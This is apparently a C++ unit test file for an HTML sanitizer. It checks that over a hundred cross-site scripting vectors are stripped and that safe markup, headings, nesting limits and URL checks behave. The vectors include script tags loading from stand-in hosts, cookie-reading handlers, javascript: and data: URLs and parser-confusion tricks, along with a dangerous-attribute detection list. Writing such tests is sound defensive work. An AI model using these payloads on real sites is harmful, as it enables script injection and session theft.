// SPDX-License-Identifier: GPL-3.0-or-later
#define BOOST_TEST_DYN_LINK
#include "compose/sanitize.h"

#include <gumbo.h>

#include <boost/test/unit_test.hpp>
#include <set>
#include <string>
#include <string_view>
#include <vector>

#include "compose/html_nesting.h"

namespace {

using namespace octavo;

std::string unwrapped(std::string_view html) {
  SanitizeOptions options;
  options.wrap = false;
  return sanitize_html(html, options);
}

std::string wrapped(std::string_view html) {
  return sanitize_html(html, {});
}

std::string repeated(std::string_view text, std::size_t times) {
  std::string out;
  for (std::size_t i = 0; i < times; ++i) out += text;
  return out;
}

// A browser's eyes, written without the code under test: what of `html` would run or load code.
std::string danger_in(const std::string& html) {
  static const std::set<std::string> kElements = {
      "a",     "abbr",   "b",          "blockquote", "br",      "code", "details",
      "div",   "em",     "figcaption", "figure",     "h2",      "hr",   "i",
      "img",   "input",  "kbd",        "li",         "ol",      "p",    "pre",
      "q",     "source", "span",       "strong",     "summary", "sup",  "table",
      "tbody", "td",     "th",         "thead",      "tr",      "u",    "ul",
      "video", "audio",  "center",     "picture",    "html",    "body", "head"};
  GumboOptions options = kGumboDefaultOptions;
  GumboOutput* output = gumbo_parse_with_options(&options, html.data(), html.size());
  std::string danger;
  std::vector<const GumboNode*> todo{output->root};
  while (!todo.empty()) {
    const GumboNode* node = todo.back();
    todo.pop_back();
    if (node->type == GUMBO_NODE_TEMPLATE) danger += "template;";
    if (node->type != GUMBO_NODE_ELEMENT) continue;
    const GumboElement& element = node->v.element;
    std::string name = gumbo_normalized_tagname(element.tag);
    if (element.tag == GUMBO_TAG_UNKNOWN) {
      GumboStringPiece piece = element.original_tag;
      gumbo_tag_from_original_text(&piece);
      name.assign(piece.data, piece.length);
    }
    if (element.tag_namespace != GUMBO_NAMESPACE_HTML) danger += "foreign " + name + ";";
    if (kElements.count(name) == 0) danger += "element " + name + ";";
    for (unsigned i = 0; i < element.attributes.length; ++i) {
      const auto* one = static_cast<const GumboAttribute*>(element.attributes.data[i]);
      const std::string key = one->name;
      if (key.starts_with("on") || key == "style" || key == "srcdoc" || key == "action" ||
          key == "formaction" || key == "xlink:href" || key == "background" || key == "data" ||
          key == "http-equiv" || key == "dynsrc" || key == "lowsrc" || key == "ping") {
        danger += "attribute " + key + ";";
      }
      std::string value;
      for (const char c : std::string_view(one->value)) {
        if (static_cast<unsigned char>(c) > 0x20) value += static_cast<char>(c | 0x20);
      }
      for (const char* scheme : {"javascript:", "vbscript:", "livescript:", "mocha:", "file:",
                                 "data:text", "data:application", "data:image/svg"}) {
        if (value.find(scheme) == 0 || (key == "srcset" && value.find(scheme) != value.npos)) {
          danger += key + "=" + scheme + ";";
        }
      }
    }
    for (unsigned i = 0; i < element.children.length; ++i) {
      todo.push_back(static_cast<const GumboNode*>(element.children.data[i]));
    }
  }
  gumbo_destroy_output(&options, output);
  return danger;
}

}  // namespace

BOOST_AUTO_TEST_SUITE(compose_sanitize_test)

BOOST_AUTO_TEST_CASE(no_vector_survives) {
  const std::vector<std::string> vectors = {
      "<script>alert(1)</script>",
      "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
      "<scr<script>ipt>alert(1)</scr</script>ipt>",
      "<script\n>alert(1)</script\n>",
      "<script/src=//x.example></script>",
      "<<SCRIPT>alert(1);//<</SCRIPT>",
      "<script>alert(1)",
      "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
      "<SCRIPT a=\">\" SRC=\"http://xss.example/xss.js\"></SCRIPT>",
      "<SCRIPT =\">\" SRC=\"http://xss.example/xss.js\"></SCRIPT>",
      "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"http://xss.example/xss.js\"></SCRIPT>",
      "<img src=x onerror=alert(1)>",
      "<img src=x oNeRrOr = alert(1)>",
      "<img src=\"javascript:alert('XSS');\">",
      "<img src=javascript:alert('XSS')>",
      "<IMG SRC=JaVaScRiPt:alert('XSS')>",
      "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
      "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
      "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
      "<IMG SRC=# onmouseover=\"alert('xxs')\">",
      "<IMG SRC= onmouseover=\"alert('xxs')\">",
      "<IMG onmouseover=\"alert('xxs')\">",
      "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
      "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097\">",
      "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
      "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
      "&#0000116&#0000058alert(1)>",
      "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>",
      "<IMG SRC=\"jav\tascript:alert('XSS');\">",
      "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
      "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
      "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
      "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
      "<a href=\"java&#1;script:alert(1)\">x</a>",
      "<a href=\"javascript&colon;alert(1)\">x</a>",
      "<a href=\"java&Tab;script:alert(1)\">x</a>",
      "<a href=\"java&NewLine;script:alert(1)\">x</a>",
      "<a href=\"&#x1;javascript:alert(1)\">x</a>",
      "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
      "<a href=\"vbscript:msgbox(1)\">x</a>",
      "<a href=\"livescript:x\">x</a>",
      "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
      "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
      "<a href=\"file:///etc/passwd\">x</a>",
      "<a href='javascript:alert(1)' ping=http://x.example>x</a>",
      "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
      "<a onmouseover=alert(document.cookie)>xxs link</a>",
      "<a/onclick=alert(1) href=x>x</a>",
      "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+\">",
      "<img srcset=\"javascript:alert(1) 1x, data:text/html,x 2x\">",
      "<img dynsrc=\"javascript:alert('XSS')\" lowsrc=\"javascript:alert('XSS')\">",
      "<iframe src=\"http://xss.example/\"></iframe>",
      "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
      "<iframe src=javascript:alert(1) <",
      "<frameset><frame src=\"javascript:alert('XSS');\"></frameset>",
      "<object data=\"javascript:alert(1)\"></object>",
      "<object type=text/x-scriptlet data=http://xss.example/s.html></object>",
      "<embed src=\"data:image/svg+xml;base64,AAAA\" type=\"image/svg+xml\">",
      "<applet code=x></applet>",
      "<svg onload=alert(1)>",
      "<svg/onload=alert('XSS')>",
      "<svg><script>alert(1)</script></svg>",
      "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
      "<svg><animate onbegin=alert(1) attributeName=x></svg>",
      "<svg><style><img src=x onerror=alert(1)></style></svg>",
      "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
      "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>",
      "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
      "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
      "onerror=alert(1)&gt;\">",
      "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script>",
      "<form action=\"javascript:alert(1)\"><input type=submit></form>",
      "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
      "<form id=x></form><button form=x formaction=javascript:alert(1)>x",
      "<isindex type=image src=1 onerror=alert(1)>",
      "<isindex action=\"javascript:alert(1)\" type=submit>",
      "<input type=\"image\" src=\"javascript:alert('XSS');\">",
      "<input type=checkbox disabled onfocus=alert(1) autofocus>",
      "<input onfocus=alert(1) autofocus>",
      "<select onfocus=alert(1) autofocus><option>x</select>",
      "<textarea onfocus=alert(1) autofocus></textarea>",
      "<keygen autofocus onfocus=alert(1)>",
      "<video><source onerror=\"alert(1)\"></video>",
      "<video poster=javascript:alert(1)//></video>",
      "<video src=x onerror=alert(1)></video>",
      "<audio src=x onerror=alert(1)></audio>",
      "<details open ontoggle=alert(1)>x</details>",
      "<body onload=alert('XSS')>",
      "<body background=\"javascript:alert('XSS')\">",
      "<bgsound src=\"javascript:alert('XSS');\">",
      "<link rel=\"stylesheet\" href=\"javascript:alert('XSS');\">",
      "<style>@import'http://xss.example/xss.css';</style>",
      "<style>li {list-style-image: url(\"javascript:alert('XSS')\");}</style><ul><li>x</ul>",
      "<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>",
      "<div style=\"width: expression(alert('XSS'));\">x</div>",
      "<xss style=\"behavior: url(xss.htc);\">x</xss>",
      "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('XSS');\">",
      "<base href=\"javascript:alert('XSS');//\">",
      "<table background=\"javascript:alert('XSS')\"><tr><td>x</table>",
      "<table><td background=\"javascript:alert('XSS')\">x</td></table>",
      "<template><script>alert(1)</script></template>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
      "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
      "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
      "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
      "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
      "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
      "<plaintext><script>alert(1)</script>",
      "<listing>&lt;img onerror=\"alert(1)\" src&gt;</listing>",
      "<!--[if gte IE 4]><script>alert('XSS');</script><![endif]-->",
      "<!-- --!><script>alert(1)</script>-->",
      "<!--><script>alert(1)</script>-->",
      "<![CDATA[<script>alert(1)</script>]]>",
      "<?php echo '<script>alert(1)</script>'; ?>",
      "<!DOCTYPE x [<!ENTITY y '<script>'>]><script>alert(1)</script>",
      "<p title='\"><script>alert(1)</script>'>x</p>",
      "<p id='\"onclick=alert(1)//'>x</p>",
      "<p class=\"`onclick=alert(1)\">x</p>",
      "<marquee onstart=alert(1)>x</marquee>",
      "<image src=x onerror=alert(1)>",
      "<a href=\"x\" style=\"position:fixed\">x</a>",
      "<div\tonclick=alert(1)>x</div>",
      "<div/onclick=alert(1)>x</div>",
      "<x-y onclick=alert(1)>x</x-y>",
      "<custom is=\"x\" onpointerenter=alert(1)>x</custom>",
      "<p onclick\n=\nalert(1)>x</p>",
      "<p \"onclick=alert(1)\">x</p>",
      "<p aria-onclick=\"x\" onx:y=\"alert(1)\">x</p>",
      "\xef\xbc\x9cscript\xef\xbc\x9e"
      "alert(1)\xef\xbc\x9c/script\xef\xbc\x9e",
      "<script>\xff\xfe</script><img \xff onerror=alert(1) src=x>",
      std::string("<scr\0ipt>alert(1)</scr\0ipt>", 27),
      std::string("<a href=\"java\0script:alert(1)\">x</a>", 37),
      "<p><table><script>alert(1)</script><tr><td onclick=alert(1)>x",
      "<a href=x><table><a href=\"javascript:alert(1)\">y",
      "<b><p></b><script>alert(1)</script>",
      "<dialog open onclose=alert(1)>x</dialog>",
      "<portal src=\"javascript:alert(1)\">x</portal>",
      "<img usemap=#m src=x><map name=m><area href=\"javascript:alert(1)\"></map>",
  };
  BOOST_TEST(vectors.size() >= 60u);
  for (const std::string& vector : vectors) {
    for (const std::string& clean : {wrapped(vector), unwrapped(vector)}) {
      BOOST_TEST(danger_in(clean) == "", vector << " became " << clean);
      // What is clean stays as it is, however often it is cleaned.
      BOOST_TEST(danger_in(unwrapped(clean)) == "", vector);
    }
  }
}

BOOST_AUTO_TEST_CASE(what_may_stay_stays) {
  const std::vector<std::string> same = {
      "<p>a <b>b</b> <em>c</em> <kbd>Ctrl</kbd><br>d</p>",
      "<details open><summary>s</summary><p>x</p></details>",
      "<figure id=\"f\" class=\"c\"><img src=\"/a.png\" alt=\"a\" loading=\"lazy\" "
      "decoding=\"async\"><figcaption>t</figcaption></figure>",
      "<div class=\"table-wrap\" tabindex=\"0\"><table><caption>c</caption><thead><tr>"
      "<th scope=\"col\" colspan=\"2\">h</th></tr></thead><tbody><tr><td align=\"right\">1</td>"
      "</tr></tbody></table></div>",
      "<ol start=\"3\" reversed type=\"a\"><li value=\"7\">x</li></ol>",
      "<dl><dt>t</dt><dd>d</dd></dl>",
      "<p lang=\"de\" dir=\"ltr\" title=\"t\" role=\"note\" aria-label=\"l\">x</p>",
      "<blockquote cite=\"https://x.example/\"><p>q</p></blockquote>",
      "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>",
      "<time datetime=\"2026-01-01\">then</time>",
      "<video controls muted loop preload=\"none\" poster=\"/p.png\" src=\"/v.mp4\"></video>",
      "<picture><source srcset=\"/a.webp 1x, /b.webp 2x\" type=\"image/webp\"><img src=\"/a.png\" "
      "alt=\"\" loading=\"lazy\" decoding=\"async\"></picture>",
      "<pre tabindex=\"0\"><code class=\"language-x\">\n &lt;a&gt; </code></pre>",
      "<pre>\n\nx</pre>",
      "<input type=\"checkbox\" disabled checked aria-label=\"Done\">",
      "<p><a href=\"mailto:a@x.example\">m</a> <a href=\"tel:1\">t</a> <a href=\"#f\">f</a> "
      "<a href=\"/p?a=1&amp;b=2\">p</a> <a href=\"//x.example\">n</a></p>",
      "<p><img src=\"data:image/png;base64,AAAA\" alt=\"\" loading=\"lazy\" "
      "decoding=\"async\"></p>",
      "<p><meter value=\"1\" min=\"0\" max=\"2\">1</meter></p>",
  };
  for (const std::string& html : same) BOOST_TEST(unwrapped(html) == html);
}

BOOST_AUTO_TEST_CASE(the_rest_is_unwrapped_or_mended) {
  const std::vector<std::pair<std::string, std::string>> table = {
      {"<font color=red>x</font>", "x"},
      {"<form action=/x>words <input name=q><button>Go</button></form>", "words Go"},
      {"<vector>x</vector>", "x"},
      {"<p>a<script>b</script>c</p>", "<p>ac</p>"},
      {"<p>unclosed <b>b", "<p>unclosed <b>b</b></p>"},
      {"<p style=\"color:red\" onclick=x>y</p>", "<p>y</p>"},
      {"<a href=\"javascript:x\" title=t>y</a>", "<a title=\"t\">y</a>"},
      {"<a href=\"/x\" target=\"_blank\">y</a>",
       "<a href=\"/x\" target=\"_blank\" rel=\"noopener\">y</a>"},
      {"<a target=_blank rel=me href=/x>y</a>",
       "<a target=\"_blank\" rel=\"me noopener\" href=\"/x\">y</a>"},
      {"<a target=_top href=/x>y</a>", "<a href=\"/x\">y</a>"},
      {"<a name=old>y</a>", "<a id=\"old\">y</a>"},
      {"<img src=/a.png>", "<img src=\"/a.png\" alt=\"\" loading=\"lazy\" decoding=\"async\">"},
      {"<p tabindex=5>x</p>", "<p>x</p>"},
      {"<table><tr><td>x</table>",
       "<div class=\"table-wrap\" tabindex=\"0\"><table><tbody><tr><td>x</td></tr></tbody></table>"
       "</div>"},
      {"a &lt;b&gt; &amp; &quot;c&quot;", "a &lt;b&gt; &amp; &quot;c&quot;"},
      {"<!-- gone -->x<!--more-->", "x"},
      {"<input type=checkbox>", ""},
      {"<h1>x</h1>", "<h1>x</h1>"},
  };
  for (const auto& [html, expected] : table) BOOST_TEST(unwrapped(html) == expected);
}

BOOST_AUTO_TEST_CASE(nothing_of_an_authors_seems_to_act_or_hides) {
  const std::vector<std::pair<std::string, std::string>> table = {
      {"<p aria-hidden=\"true\">x</p>", "<p>x</p>"},
      {"<p hidden>x</p>", "<p>x</p>"},
      {"<span role=\"button\" tabindex=\"0\">x</span>", "<span>x</span>"},
      {"<div role=\"main\">x</div>", "<div>x</div>"},
      {"<div role=\"alertdialog\" aria-modal=\"true\" aria-live=\"assertive\">x</div>",
       "<div>x</div>"},
      {"<div role=\"note\" aria-label=\"l\">x</div>",
       "<div role=\"note\" aria-label=\"l\">x</div>"},
      {"<p aria-expanded=\"false\" aria-controls=\"y\" aria-haspopup=\"menu\">x</p>", "<p>x</p>"},
      {"<p class=\"unseen\">x</p>", "<p>x</p>"},
      {"<p class=\" lead\tunseen  skip wide\">x</p>", "<p class=\"lead wide\">x</p>"},
      {"<a class=\"anchor\" href=\"#y\" tabindex=\"-1\" aria-hidden=\"true\">x</a>",
       "<a href=\"#y\">x</a>"},
      {"<p id=\"_contents\">x</p>", "<p>x</p>"},
      {"<a name=\"_contents\">x</a>", "<a>x</a>"},
      {"<h2 tabindex=\"-1\">x</h2>", "<h2 tabindex=\"-1\">x</h2>"},
      {"<input type=checkbox disabled role=switch aria-checked=true>",
       "<input type=\"checkbox\" disabled>"},
  };
  for (const auto& [html, expected] : table) {
    std::string clean = unwrapped(html);
    if (const std::size_t at = clean.find("<a class=\"anchor\""); at != std::string::npos) {
      clean.erase(at, clean.find("</a>", at) + 4 - at);  // ours, behind a heading
    }
    BOOST_TEST(clean == expected, html);
  }
}

BOOST_AUTO_TEST_CASE(top_level_nodes_are_wrapped) {
  const std::string img = "<img src=\"/a.png\" alt=\"a\" loading=\"lazy\" decoding=\"async\">";
  const auto rich = [](const std::string& html) {
    return "<div class=\"block-rich-text\">" + html + "</div>\n";
  };
  const auto image = [](const std::string& html) {
    return "<div class=\"block-image\"><figure>" + html + "</figure></div>\n";
  };
  const std::vector<std::pair<std::string, std::string>> table = {
      {"<p>x</p>\n<p>y</p>", rich("<p>x</p>") + rich("<p>y</p>")},
      {"<pre>x</pre>", "<div class=\"block-code\"><pre tabindex=\"0\">x</pre></div>\n"},
      {"<p><img src=/a.png alt=a></p>", image(img)},
      {"<p>\n<a href=/x><img src=/a.png alt=a></a>\n</p>", image("<a href=\"/x\">" + img + "</a>")},
      {"<img src=/a.png alt=a>", image(img)},
      {"<p><img src=/a.png alt=a title=T></p>", image(img + "<figcaption>T</figcaption>")},
      {"<figure><img src=/a.png alt=a><figcaption>C</figcaption></figure>",
       image(img + "<figcaption>C</figcaption>")},
      {"<p class=c><img src=/a.png alt=a></p>",
       "<div class=\"block-image\"><figure class=\"c\">" + img + "</figure></div>\n"},
      {"<picture><source srcset=/b.webp><img src=/a.png alt=a></picture>",
       image("<picture><source srcset=\"/b.webp\">" + img + "</picture>")},
      {"<p>x <img src=/a.png alt=a></p>", rich("<p>x " + img + "</p>")},
      {"<figure><pre>x</pre></figure>", rich("<figure><pre tabindex=\"0\">x</pre></figure>")},
      {"stray <b>text</b>\n<p>x</p>\nmore",
       rich("stray <b>text</b>\n") + rich("<p>x</p>") + rich("\nmore")},
      {"<custom><p>x</p><pre>y</pre></custom>",
       rich("<p>x</p>") + "<div class=\"block-code\"><pre tabindex=\"0\">y</pre></div>\n"},
      {"<p></p><br>\n<br><p><script>x</script></p><p>z</p>", rich("<p>z</p>")},
      {"", ""},
  };
  for (const auto& [html, expected] : table) {
    std::string clean = wrapped(html);
    // Blanks at a wrapper's edges are of no matter.
    std::string squeezed, wanted;
    for (const char c : clean) squeezed += c == '\n' ? "" : std::string(1, c);
    for (const char c : expected) wanted += c == '\n' ? "" : std::string(1, c);
    BOOST_TEST(squeezed == wanted, html << " became " << clean);
  }
}

BOOST_AUTO_TEST_CASE(trusted_html_passes_as_it_is) {
  SanitizeOptions options;
  options.trusted = true;
  options.wrap = false;
  const std::vector<std::string> same = {
      "<script>if (a < b && c) { x(\"</b>\") }</script>",
      "<iframe src=\"https://video.example/\" allowfullscreen=\"\"></iframe>",
      "<style>p > b { color: red }</style>",
      "<p onclick=\"x()\" style=\"color:red\">x</p>",
      "<svg viewBox=\"0 0 1 1\"><linearGradient id=\"g\"></linearGradient><a xlink:href=\"#g\">"
      "</a></svg>",
      "<form action=\"/x\"><input name=\"q\"></form>",
      "<my-widget data-x=\"1\">w</my-widget>",
      "<a href=\"javascript:x()\">x</a>",
      "<link rel=\"me\" href=\"/x\">",
  };
  for (const std::string& html : same) BOOST_TEST(sanitize_html(html, options) == html);
  options.wrap = true;
  BOOST_TEST(sanitize_html("<p>x</p><script>y</script>", options) ==
             "<div class=\"block-rich-text\"><p>x</p></div>\n<script>y</script>\n");
}

BOOST_AUTO_TEST_CASE(urls_of_media_go_through_the_callback) {
  SanitizeOptions options;
  options.wrap = false;
  std::vector<std::string> seen;
  options.image = [&](MediaUse& use) {
    seen.push_back(use.url + "@" + std::to_string(use.offset));
    use.url = "/y";
    use.width = "8";
    use.height = "6";
  };
  BOOST_TEST(sanitize_html("<p><img src=a.png alt=x>", options) ==
             "<p><img src=\"/y\" alt=\"x\" loading=\"lazy\" decoding=\"async\" width=\"8\" "
             "height=\"6\"></p>");
  BOOST_TEST(seen == std::vector<std::string>{"a.png@3"}, boost::test_tools::per_element());
  seen.clear();
  BOOST_TEST(sanitize_html("<img width=5 src=b alt srcset='c 1x,d 2x, e'>", options) ==
             "<img width=\"5\" src=\"/y\" alt=\"\" srcset=\"/y 1x, /y 2x, /y\" loading=\"lazy\" "
             "decoding=\"async\">");
  BOOST_TEST(seen.size() == 4u);
  seen.clear();
  BOOST_TEST(sanitize_html("<video src=v poster=p></video>", options) ==
             "<video src=\"/y\" poster=\"/y\"></video>");
  BOOST_TEST(seen.size() == 2u);
}

BOOST_AUTO_TEST_CASE(headings_move_down_when_there_is_an_h1_and_get_ids) {
  HeadingIds ids;
  SanitizeOptions options;
  options.wrap = false;
  options.ids = &ids;
  options.shift_headings = std::nullopt;
  const Sanitized clean = sanitize("<h1>A b</h1><h2 id=own>C</h2><h6>A b</h6><h3></h3>", options);
  const auto anchor = [](const std::string& id) {
    return "<a class=\"anchor\" href=\"#" + id + "\" aria-hidden=\"true\" tabindex=\"-1\"></a>";
  };
  BOOST_TEST(clean.html == "<h2 id=\"a-b\">A b" + anchor("a-b") + "</h2><h3 id=\"own\">C" +
                               anchor("own") + "</h3><h6 id=\"a-b-1\">A b" + anchor("a-b-1") +
                               "</h6><h4></h4>");
  BOOST_TEST(clean.shifted);
  BOOST_REQUIRE(clean.headings.size() == 3u);
  BOOST_TEST(clean.headings[1].id == "own");
  BOOST_TEST(clean.headings[1].level == 3u);
  BOOST_TEST(!sanitize("<h2>x</h2>", options).shifted);
}

BOOST_AUTO_TEST_CASE(text_and_first_paragraph_are_read_off) {
  const Sanitized clean = sanitize(
      "<p><img src=x alt=\"An image\"></p><blockquote><p>quoted</p></blockquote>"
      "<div><p>First  <b>words</b>\n here</p></div><ul><li>a<li>b</ul><pre>x\n  y</pre>"
      "<script>no</script>",
      {});
  BOOST_TEST(clean.first_paragraph == "<p>First  <b>words</b>\n here</p>");
  BOOST_TEST(clean.text == "An image\nquoted\nFirst words here\na\nb\nx\n  y");
}

BOOST_AUTO_TEST_CASE(a_summary_has_neither_ids_nor_images) {
  SanitizeOptions options;
  options.wrap = false;
  options.summary = true;
  BOOST_TEST(sanitize_html("<p id=x>a<img src=y><a href=/z id=q>b</a>"
                           "<sup class=\"footnote-ref\"><a href=#fn-1>1</a></sup></p>",
                           options) == "<p>a<a href=\"/z\">b</a></p>");
}

BOOST_AUTO_TEST_CASE(depth_is_counted_before_it_costs) {
  BOOST_TEST(html_nesting("<p>x<p>y<br><ul><li>a<li>b</ul>") == 1u);
  BOOST_TEST(html_nesting("<div><b></div><div>") == 2u);
  BOOST_TEST(html_nesting("<svg><path/><path/><g></g></svg>") == 2u);
  BOOST_TEST(html_nesting("<!-- <div><div> --><i>") == 1u);
  BOOST_TEST(html_nesting("<script>'<div><div>'</script><i></i>") == 1u);
  BOOST_TEST(html_nesting("<a title=\"<b><b><b>\">") == 1u);
  BOOST_TEST(html_nesting(repeated("<div></i>", 1000)) == 1000u);
  for (const std::string& deep :
       {repeated("<div>", 100'000), repeated("<b>", 20'000), repeated("<table><tr><td>", 5000),
        repeated("<div><b>", 400), repeated("<ul><li>", 600)}) {
    BOOST_TEST((sanitize(deep, {}).fault == SanitizeFault::too_deep));
    BOOST_TEST(sanitize_html(deep, {}) == "");
  }
  BOOST_TEST((sanitize(repeated("<div>", 480), {}).fault == SanitizeFault::none));
  BOOST_TEST((sanitize(repeated("<p>x<li>y", 5000), {}).fault == SanitizeFault::none));
}

BOOST_AUTO_TEST_CASE(what_unfolds_is_stopped) {
  std::string html = "x <p>";
  for (int i = 0; i < 480; ++i) html += "<font size=" + std::to_string(i) + ">";
  html += repeated("<p>x", 100'000);
  BOOST_TEST((sanitize(html, {}).fault == SanitizeFault::too_large));
}

BOOST_AUTO_TEST_CASE(safe_urls) {
  for (const char* url : {"",
                          "/x",
                          "x",
                          "../x",
                          "#a:b",
                          "?a:b",
                          "//x.example/",
                          "http://x",
                          "HTTPS://x",
                          "mailto:a@b",
                          "tel:+1",
                          "ftp://x",
                          "xmpp:a",
                          "sms:1",
                          "geo:1,2",
                          "{{ site.url }}:x",
                          "a/b:c",
                          "http://x/?q=javascript:1",
                          "#&#x",
                          "page?a=1&#b"}) {
    BOOST_TEST(is_safe_url(url), url);
    BOOST_TEST(is_safe_image_url(url), url);
  }
  for (const char* url :
       {"javascript:x", " javascript:x", "JavaScript:x", "java\nscript:x", "java\tscript:x",
        "\x01javascript:x", "java script:x", "vbscript:x", "file:///x", "about:blank", "blob:x",
        "view-source:x", "data:text/html,x", "unknown:x", "&#106;avascript:x", "javascript&colon;x",
        "java&Tab;script:x", "javascript&#58;x", "feed:javascript:x"}) {
    BOOST_TEST(!is_safe_url(url), url);
    BOOST_TEST(!is_safe_image_url(url), url);
  }
  for (const char* url : {"data:image/png;base64,AA", "DATA:image/GIF;base64,AA",
                          "data:image/webp,x", "data:image/avif;x", "data:image/jpeg;base64,AA"}) {
    BOOST_TEST(!is_safe_url(url), url);
    BOOST_TEST(is_safe_image_url(url), url);
  }
  for (const char* url :
       {"data:image/svg+xml,<svg>", "data:image/png", "data:,x", "data:text/png;"}) {
    BOOST_TEST(!is_safe_image_url(url), url);
  }
}

BOOST_AUTO_TEST_SUITE_END()
